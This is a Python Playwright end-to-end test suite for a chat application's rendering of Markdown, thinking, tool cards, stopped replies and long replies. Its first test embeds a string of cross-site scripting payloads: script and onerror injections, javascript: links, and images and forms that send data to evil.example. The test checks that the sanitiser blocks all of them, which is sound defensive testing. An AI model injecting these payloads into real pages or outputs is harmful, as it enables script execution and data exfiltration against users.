"""What a reply looks like: Markdown, thinking, tools, hostile texts, and what stays when it ends."""

from __future__ import annotations

import asyncio
import re
from functools import partial
from typing import Any

import pytest
from playwright.async_api import Browser, Request, expect
from tests.e2e.browsing import browse
from tests.e2e.pen import Pen
from tests.support.app_harness import serve_app
from tests.support.running_server import say, say_half
from tests.support.waiting import poll_until

from indelible.testing import ScriptedModel, parts
from indelible.testing.model import Step
from indelible.tools.tool import ToolContext, tool

pytestmark = [
    pytest.mark.parametrize("migrated", ["sqlite"], indirect=True),
    pytest.mark.asyncio(loop_scope="session"),  # the browser's
]

HOSTILE = """# <img src=x onerror="window.broken=1"> heading

<script>window.broken = 1</script>
<svg onload="window.broken=1"><a xlink:href="javascript:window.broken=1"><text>x</text></a></svg>
<iframe srcdoc="<script>parent.broken=1</script>"></iframe>
<form action="https://evil.example/"><input name=a><button>go</button></form>
<style>* { display: none }</style><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">

[a](javascript:window.broken=1) [b](JaVaScRiPt:window.broken=1) [c](data:text/html,<script>window.broken=1</script>)
[d](vbscript:x) [e](&#106;avascript:window.broken=1) <javascript:window.broken=1> [f](java&#10;script:window.broken=1)

![leak](https://evil.example/?q=secret) ![leak][ref] <img src="https://evil.example/x.png">
![svg](data:image/svg+xml;base64,PHN2Zy8+)

[ref]: https://evil.example/ref.png

| <script>window.broken=1</script> | b |
|---|---|
| <img src=x onerror=window.broken=1> | [x](javascript:window.broken=1) |

$\\href{javascript:window.broken=1}{x}$ $\\includegraphics{https://evil.example/m.png}$ $\\htmlStyle{color:red}{x}$

```html"><img src=x onerror=window.broken=1>
</code></pre><script>window.broken=1</script>
"""


def has_asked(model: ScriptedModel, times: int) -> bool:
    return len(model.calls) == times


async def test_nothing_in_a_hostile_text_runs_or_is_fetched_wherever_it_stands(browser: Browser, database: str) -> None:
    @tool
    async def look(context: ToolContext) -> str:
        """Looks."""
        return HOSTILE

    pen = Pen()
    call: list[Step] = [
        parts.reasoning_delta("r", HOSTILE),
        parts.tool_call("1", "look", "{}"),
        parts.finish("tool_calls"),
    ]
    foreign: list[str] = []
    async with (
        serve_app(database, ScriptedModel([call, pen.stream]), tools=[look]) as server,
        browse(browser, server.url) as window,
    ):

        def note(request: Request) -> None:
            if not request.url.startswith((server.url, "data:")):
                foreign.append(request.url)

        window.page.on("request", note)
        await window.send(HOSTILE)
        for at in range(0, len(HOSTILE), 97):  # every block is half open at some time
            pen.write(HOSTILE[at : at + 97])
        await expect(window.live).to_contain_text("</code></pre>")
        pen.finish()
        await expect(window.live).to_have_count(0)
        await server.client.update_chat(window.chat_id, title=HOSTILE[:200])
        await expect(window.chats).to_contain_text("onerror")
        for summary in await window.page.locator("#messages summary").all():
            await summary.click()
        page = window.page
        dangerous = (
            "#app :is(script, iframe, form:not(#composer), style, base, meta, object, embed, svg:not(.ico, .ring))"
        )
        assert await page.locator(dangerous).count() == 0
        assert await page.locator("#messages img").count() == 0
        links = await page.locator("#messages a").evaluate_all("all => all.map((a) => a.protocol)")
        assert set(links) <= {"http:", "https:"}
        assert await page.evaluate("window.broken") is None
        assert foreign == []


async def test_markdown_becomes_elements_and_code_has_colours(browser: Browser, database: str) -> None:
    text = (
        "## Title\n\n**bold** and `code` and [link](https://example.org/).\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        "```python\ndef rain():\n    return 1\n```\n\n- one\n- two\n\nEuler: $e^{i\\pi} = -1$\n"
    )
    async with serve_app(database, ScriptedModel([say(text)])) as server, browse(browser, server.url) as window:
        await window.send("Show me.")
        reply = window.page.locator("#messages > ol > li.assistant")
        await expect(reply.locator(".md-h2")).to_have_text("Title")
        await expect(reply.locator("strong")).to_have_text("bold")
        await expect(reply.locator("td")).to_have_text(["1", "2"])
        await expect(reply.locator(".md li")).to_have_text(["one", "two"])
        await expect(reply.locator("a[target=_blank]")).to_have_attribute("rel", "noopener noreferrer nofollow")
        await expect(reply.locator(".hl-keyword").first).to_have_text("def")
        await expect(reply.locator("math")).to_have_count(1)
        await expect(reply.locator("pre")).to_have_text("def rain():\n    return 1")


async def test_a_selection_and_open_thinking_survive_the_end_of_a_reply(browser: Browser, database: str) -> None:
    pen = Pen()
    async with serve_app(database, ScriptedModel([pen.stream])) as server, browse(browser, server.url) as window:
        await window.send("Think.")
        pen.put(parts.reasoning_delta("r", "Hm, let me see."))
        await window.page.get_by_text("Thinking…").click()
        await expect(window.page.locator(".thought")).to_have_text("Hm, let me see.")
        pen.put(parts.reasoning_end("r"))
        pen.write("First paragraph.\n\n", "Second")
        await expect(window.live).to_contain_text("Second")
        select = """() => { const place = document.querySelector('.assistant .text p').firstChild;
            getSelection().setBaseAndExtent(place, 0, place, 5); }"""
        await window.page.evaluate(select)
        pen.write(" paragraph.")
        pen.finish()
        await expect(window.live).to_have_count(0)
        assert await window.page.evaluate("getSelection().toString()") == "First"
        await expect(window.page.locator(".thought")).to_be_visible()


async def test_a_tool_is_a_card_with_progress_and_result(browser: Browser, database: str) -> None:
    may_end = asyncio.Event()

    @tool
    async def weather(city: str, context: ToolContext) -> str:
        """Looks out of the window."""
        await context.progress("looking out of the window")
        await may_end.wait()
        return f"Rain in {city}"

    call: list[Step] = [parts.tool_call("1", "weather", '{"city": "Oslo"}'), parts.finish("tool_calls")]
    async with (
        serve_app(database, ScriptedModel([call, say("It rains.")]), tools=[weather]) as server,
        browse(browser, server.url) as window,
    ):
        await window.send("And Oslo?")
        card = window.page.locator(".tool")
        await expect(card).to_contain_text("looking out of the window")
        await card.locator("summary").click()
        handle: Any = await card.element_handle()
        may_end.set()
        await expect(window.live).to_have_count(0)
        await expect(window.items.last.locator(".text")).to_have_text("It rains.")
        await expect(card).to_contain_text("Rain in Oslo")
        assert await handle.evaluate("node => node.isConnected && node.open"), "the card stays open"
        await expect(window.items).to_have_count(2)


@pytest.mark.may_log("the tool fail raised an error")
async def test_the_card_of_a_tool_says_what_happened_and_not_what_its_words_are(
    browser: Browser, database: str
) -> None:
    @tool
    async def look() -> str:
        """Looks."""
        return "Not run: the dog is asleep"

    @tool
    async def fail() -> str:
        """Fails."""
        raise ValueError("Outcome unknown")

    @tool(timeout_s=0.05)
    async def pay() -> str:
        """Never answers."""
        await asyncio.Event().wait()
        return "never"

    names = ("look", "fail", "nothing", "pay")
    calls: list[Step] = [parts.tool_call(str(number), name, "{}") for number, name in enumerate(names)]
    model = ScriptedModel([[*calls, parts.finish("tool_calls")], say("Done.")])
    async with (
        serve_app(database, model, tools=[look, fail, pay]) as server,
        browse(browser, server.url) as window,
    ):
        await window.send("Do it all.")
        await expect(window.items.last.locator(".text")).to_have_text("Done.")
        states = window.page.locator(".tool .tool-state")
        shown: list[str | re.Pattern[str]] = [re.compile(r"^Ran · [\d.]+ s$"), "Failed", "Not run", "Outcome unknown"]
        await expect(states).to_have_text(shown)
        await window.page.reload()
        await expect(states).to_have_text(shown)
        await window.page.locator(".tool summary").last.click()
        await expect(window.page.locator(".tool-body .amber")).to_have_text(
            "This tool took too long, and was ended. It may or may not have taken effect."
        )


async def test_a_reply_is_stopped_in_every_phase_and_the_next_message_is_answered(
    browser: Browser, database: str
) -> None:
    @tool
    async def weather(context: ToolContext) -> str:
        """Looks out of the window."""
        await context.progress("looking out of the window")
        await asyncio.Event().wait()
        return "never"

    scripts: list[list[Step]] = [
        [parts.hang()],
        [parts.reasoning_delta("r", "Hm."), parts.hang()],
        say_half("It rains"),
        [parts.tool_call("1", "weather", "{}"), parts.finish("tool_calls")],
        [parts.tool_call("2", "ask", "{}"), parts.finish("tool_calls")],
        say("At last."),
    ]
    ask = {"name": "ask", "description": "Ask the user.", "input_schema": {"type": "object"}}
    model = ScriptedModel(scripts)
    async with serve_app(database, model, tools=[weather]) as server:
        chat = await server.client.create_chat(tools=[ask])
        async with browse(browser, f"{server.url}/#{chat['id']}") as window:
            page = window.page
            phases = ["", "Thinking…", "It rains", "looking out of the window", "The reply needs you."]
            for number, phase in enumerate(phases, 1):
                await window.send(f"Question {number}")
                await poll_until(partial(has_asked, model, number))
                await expect(page.get_by_text(phase).last if phase else window.live).to_be_attached()
                await window.composer.press("Escape")
                await expect(window.button("Stop")).to_have_count(0)
                await expect(window.status).to_have_text("")
                await expect(window.live).to_have_count(0)
            await window.send("And now?")
            await expect(window.items.last.locator(".text")).to_have_text("At last.")
            stopped = ("notice", "Stopped by you.")
            assert await window.read_items() == [
                *(("user", "Question 1"), stopped),
                *(("user", "Question 2"), ("assistant", ""), stopped),
                *(("user", "Question 3"), ("assistant", "It rains")),
                *(("user", "Question 4"), ("assistant", "")),
                *(("user", "Question 5"), ("assistant", ""), stopped),
                *(("user", "And now?"), ("assistant", "At last.")),
            ]
            await expect(page.locator(".thinking summary")).to_have_text(["Thought"])
            await expect(page.locator(".cut-note")).to_have_text(["Stopped · saved"] * 2)
            await expect(page.locator(".tool > summary")).to_contain_text(["weatherOutcome unknown", "askNot run"])


async def test_a_reply_of_two_megabytes_is_shown_completely(browser: Browser, database: str) -> None:
    pen = Pen()
    paragraph = "It **rains** in `Bergen`, as it does on two hundred days of the year.\n\n"
    count = 2_000_000 // len(paragraph)
    async with serve_app(database, ScriptedModel([pen.stream])) as server, browse(browser, server.url) as window:
        await window.send("A long one.")
        for _ in range(count // 100):
            pen.write(paragraph * 100)
        pen.write("The end.")
        await expect(window.page.locator(".md .block").last).to_have_text("The end.")
        pen.finish()
        await expect(window.live).to_have_count(0)
        assert await window.page.locator(".md .block").count() == count // 100 * 100 + 1
